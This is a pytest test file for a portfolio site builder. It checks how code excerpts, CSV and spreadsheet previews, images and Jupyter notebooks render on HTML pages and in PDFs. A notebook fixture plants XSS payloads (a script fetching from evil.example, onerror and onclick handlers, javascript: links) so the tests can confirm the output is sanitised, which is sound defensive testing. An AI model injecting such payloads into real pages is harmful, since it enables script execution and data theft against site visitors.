"""A sample's page and PDF show its files: code excerpts, table previews, notebooks, images."""

from __future__ import annotations

import base64
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup, Tag
from PIL import Image

from builder.app.cli import main
from tests.conftest import TINY_PROFILE, TINY_SITE, text_of, write

PAYLOAD = "stolen-by-notebook-output"


def _page(site: Path, sample: str) -> BeautifulSoup:
    return BeautifulSoup(
        (site / "samples" / sample / "index.html").read_text("utf-8"), "html.parser"
    )


def _previews(html: BeautifulSoup) -> dict[str, Tag]:
    """Each previewed file's block, by the file name in the heading above it."""
    found = {}
    for block in html.select("article .sr-preview, article .sr-preview-image"):
        heading = block.find_previous("h3")
        assert heading is not None
        found[heading.get_text(strip=True).rstrip("¶")] = block
    return found


def _note(block: Tag) -> str:
    note = block.find_next("p", class_="sr-preview-note")
    return note.get_text(" ", strip=True) if note else ""


def _shown_lines(block: Tag) -> list[tuple[int, str]]:
    """The (line number, text) pairs an excerpt shows, read as a reader sees them."""
    code = block.select_one("pre code")
    assert code is not None
    shown = []
    for number in code.select(".sr-ln"):
        text = ""
        for sibling in number.next_siblings:
            if isinstance(sibling, Tag) and "sr-ln" in (sibling.get("class") or []):
                break
            if isinstance(sibling, Tag) and "sr-gap" in (sibling.get("class") or []):
                break
            text += sibling.get_text() if isinstance(sibling, Tag) else str(sibling)
        shown.append((int(number.get_text()), text.rstrip("\n")))
    return shown


# ---------------------------------------------------------------------------
# The demo


def test_the_demo_script_shows_its_first_lines_highlighted(built_demo: Path) -> None:
    site = built_demo / "build" / "site"
    source = (built_demo / "content/samples/recon-script/reconcile.py").read_text("utf-8")
    lines = source.split("\n")[:-1] if source.endswith("\n") else source.split("\n")
    block = _previews(_page(site, "recon-script"))["reconcile.py"]
    shown = _shown_lines(block)
    assert [n for n, _ in shown] == list(range(1, 31))
    assert [text for _, text in shown] == lines[:30]
    assert block.select("pre code span[class]:not(.sr-ln)"), "the code is highlighted"
    assert _note(block) == f"Lines 1–30 of {len(lines)}"


def test_the_demo_sql_and_its_result_are_shown(built_demo: Path) -> None:
    site = built_demo / "build" / "site"
    previews = _previews(_page(site, "pvm-variance"))
    assert "sr-preview--code" in previews["pvm-variance.sql"]["class"]
    table = previews["pvm-result.csv"].select_one("table")
    assert table is not None
    csv_lines = (built_demo / "content/samples/pvm-variance/pvm-result.csv").read_text().split()
    header = [th.get_text() for th in table.select("thead th")]
    assert header == csv_lines[0].split(",")


# ---------------------------------------------------------------------------
# A portfolio with one sample of each kind, built once with its PDFs

SCRIPT = "\n".join(
    [
        '"""A tool."""',
        "import csv",
        "",
        "",
        "# show-start",
        "def total(rows):",
        "    return sum(float(r['amount']) for r in rows)",
        "# show-end",
        "",
        "SECRET_OF_THE_TRADE = 'not shown'",
        "",
        "-- show-start (any comment style works)",
        "def main():",
        "    print(total(csv.DictReader(open('a.csv'))))",
        "",
    ]
)


def _csv(rows: int) -> str:
    lines = ["region,product,units,revenue_eur"]
    lines += [f"North,Widget {i},{i * 3},{i * 1234.5:.1f}" for i in range(1, rows + 1)]
    return "\n".join(lines) + "\n"


def _png(colour: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (24, 16), colour).save(buffer, "PNG")
    return buffer.getvalue()


def _notebook() -> str:
    chart = base64.b64encode(_png("navy")).decode("ascii")
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Churn by cohort\n", "\n",
                                                            "Cohorts *lose* customers."]},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "import math\nmath.sqrt(16)",
         "outputs": [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                      "data": {"text/plain": "4.0"}}]},
        {"cell_type": "code", "metadata": {}, "execution_count": 2, "source": "plot()",
         "outputs": [{"output_type": "display_data", "metadata": {},
                      "data": {"image/png": chart, "text/plain": "<Figure>"}}]},
        {"cell_type": "code", "metadata": {}, "execution_count": 3, "source": "show()",
         "outputs": [{"output_type": "display_data", "metadata": {}, "data": {
             "text/html": f'<table><tr><td onclick="steal()">cell 42</td></tr></table>'
                          f'<script>fetch("https://evil.example/?{PAYLOAD}")</script>'
                          f'<img src="https://evil.example/pixel.png" onerror="alert(1)">'
                          f'<a href="javascript:alert(1)">click</a>',
             "application/javascript": f"alert('{PAYLOAD}')"}}]},
        {"cell_type": "markdown", "metadata": {}, "source": f"<script>alert('{PAYLOAD}')</script>Done."},
    ]  # fmt: skip
    notebook = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "language": "python"}},
        "cells": cells,
    }
    return json.dumps(notebook)


def _workbook(path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Model"
    sheet.append(["Year", "Revenue", "Margin"])
    for year in range(2020, 2050):
        sheet.append([year, 1234.5 * (year - 2019), 0.125])
        sheet.cell(sheet.max_row, 2).number_format = "#,##0.00"
        sheet.cell(sheet.max_row, 3).number_format = "0.0%"
    book.create_sheet("Notes").append(["not shown"])
    book.save(path)


def _sample(root: Path, id: str, files: list[str]) -> None:
    write(root, f"content/samples/{id}/index.md", f"""
        ---
        title: Sample {id}
        summary: What {id} shows.
        files: {json.dumps(files)}
        ---
        About {id}.
        """)  # fmt: skip


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("previews") / "portfolio"
    write(root, "site.yml", TINY_SITE)
    write(root, "content/profile.md", TINY_PROFILE)
    _sample(root, "script", ["tool.py"])
    write(root, "content/samples/script/tool.py", SCRIPT)
    _sample(root, "sales", ["sales.csv"])
    write(root, "content/samples/sales/sales.csv", _csv(45))
    _sample(root, "analysis", ["churn.ipynb"])
    write(root, "content/samples/analysis/churn.ipynb", _notebook())
    _sample(root, "model", ["model.xlsx", "chart.png"])
    _workbook(root / "content/samples/model/model.xlsx")
    (root / "content/samples/model/chart.png").write_bytes(_png("teal"))
    assert main(["build", "--root", str(root)]) == 0
    return root


def test_a_marked_region_shows_only_its_lines(samples: Path) -> None:
    block = _previews(_page(samples / "build/site", "script"))["tool.py"]
    shown = _shown_lines(block)
    lines = SCRIPT.split("\n")
    assert [n for n, _ in shown] == [6, 7, 13, 14]
    assert [text for _, text in shown] == [lines[n - 1] for n in (6, 7, 13, 14)]
    assert len(block.select(".sr-gap")) == 1
    assert "SECRET_OF_THE_TRADE" not in block.get_text()
    assert "show-start" not in block.get_text()
    assert _note(block) == "Lines 6–7, 13–14 of 14"


def test_a_csv_shows_its_header_and_first_rows(samples: Path) -> None:
    block = _previews(_page(samples / "build/site", "sales"))["sales.csv"]
    table = block.select_one("table")
    assert table is not None
    assert [th.get_text() for th in table.select("thead th")] == [
        "region", "product", "units", "revenue_eur"
    ]  # fmt: skip
    rows = [[td.get_text() for td in tr.select("td")] for tr in table.select("tbody tr")]
    assert len(rows) == 20
    assert rows[0] == ["North", "Widget 1", "3", "1234.5"]
    assert rows[-1] == ["North", "Widget 20", "60", "24690.0"]
    numbers = [
        td for td in table.select("tbody tr")[0].select("td") if "sr-num" in td.get("class", [])
    ]
    assert [td.get_text() for td in numbers] == ["3", "1234.5"], "numbers are right-aligned"
    assert _note(block) == "First 20 of 45 rows"


def test_a_spreadsheet_shows_its_first_sheet_as_formatted(samples: Path) -> None:
    previews = _previews(_page(samples / "build/site", "model"))
    table = previews["model.xlsx"].select_one("table")
    assert table is not None
    assert [th.get_text() for th in table.select("thead th")] == ["Year", "Revenue", "Margin"]
    first = [td.get_text() for td in table.select("tbody tr")[0].select("td")]
    assert first == ["2020", "1,234.50", "12.5%"]
    assert _note(previews["model.xlsx"]) == "Sheet “Model” · First 20 of 30 rows"
    assert "not shown" not in previews["model.xlsx"].get_text()


def test_an_image_is_shown_inline(samples: Path) -> None:
    site = samples / "build/site"
    image = _previews(_page(site, "model"))["chart.png"].select_one("img")
    assert image is not None
    assert (site / "samples/model" / image["src"]).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_a_notebook_renders_markdown_code_and_images(samples: Path) -> None:
    notebook = _previews(_page(samples / "build/site", "analysis"))["churn.ipynb"]
    assert notebook.find(re.compile("^h[1-6]$"), string="Churn by cohort") is not None
    assert notebook.select_one("em").get_text() == "lose"
    code = notebook.select(".sr-code pre code")
    assert code[0].get_text() == "import math\nmath.sqrt(16)\n"
    assert code[0].select("span[class]"), "code cells are highlighted"
    assert "4.0" in notebook.select(".sr-output pre")[0].get_text()
    images = notebook.select(".sr-output img")
    assert len(images) == 1 and images[0]["src"].startswith("data:image/png;base64,")
    assert images[0]["alt"] == "Output of cell 2"
    assert notebook.select_one(".sr-output td").get_text() == "cell 42"


def test_a_notebook_output_runs_nothing_and_fetches_nothing(samples: Path) -> None:
    site = samples / "build/site"
    notebook = _previews(_page(site, "analysis"))["churn.ipynb"]
    assert notebook.select("script, iframe, object, embed, style") == []
    attributes = {name for tag in notebook.find_all(True) for name in tag.attrs}
    assert not any(name.startswith("on") for name in attributes)
    assert all(a.get("href", "javascript:").startswith("https:") for a in notebook.select("a"))
    assert "click" in notebook.get_text()
    assert all(img["src"].startswith("data:image/") for img in notebook.select("img"))
    published = [p for p in site.rglob("*") if p.is_file() and p.suffix != ".ipynb"]
    assert not [p for p in published if PAYLOAD.encode() in p.read_bytes()]


def test_the_sample_pdfs_show_the_excerpt_and_the_table(samples: Path) -> None:
    pdfs = samples / "build/site/pdf/samples"
    script = text_of(pdfs / "script.pdf")
    assert "return sum(float(r['amount']) for r in rows)" in script
    assert "SECRET_OF_THE_TRADE" not in script
    sales = text_of(pdfs / "sales.pdf")
    assert "revenue_eur" in sales.replace("\u200b", "")
    assert "Widget 20 60 24690.0" in sales
    assert "Widget 21" not in sales
    assert "First 20 of 45 rows" in sales
    model = text_of(pdfs / "model.pdf")
    assert "2020 1,234.50 12.5%" in model
    notebook = text_of(pdfs / "analysis.pdf")
    assert "Churn by cohort" in notebook and "math.sqrt(16)" in notebook and "cell 42" in notebook


def test_a_changed_file_renders_its_page_and_pdf_again(samples: Path, tmp_path: Path) -> None:
    root = tmp_path / "portfolio"
    write(root, "site.yml", TINY_SITE)
    write(root, "content/profile.md", TINY_PROFILE)
    _sample(root, "sales", ["sales.csv"])
    write(root, "content/samples/sales/sales.csv", _csv(3))
    assert main(["build", "--root", str(root)]) == 0
    write(root, "content/samples/sales/sales.csv", _csv(3).replace("Widget 2", "Gadget 2"))
    assert main(["build", "--root", str(root)]) == 0
    site = root / "build/site"
    table = _previews(_page(site, "sales"))["sales.csv"]
    assert "Gadget 2" in table.get_text()
    assert "Gadget 2" in text_of(site / "pdf/samples/sales.pdf")
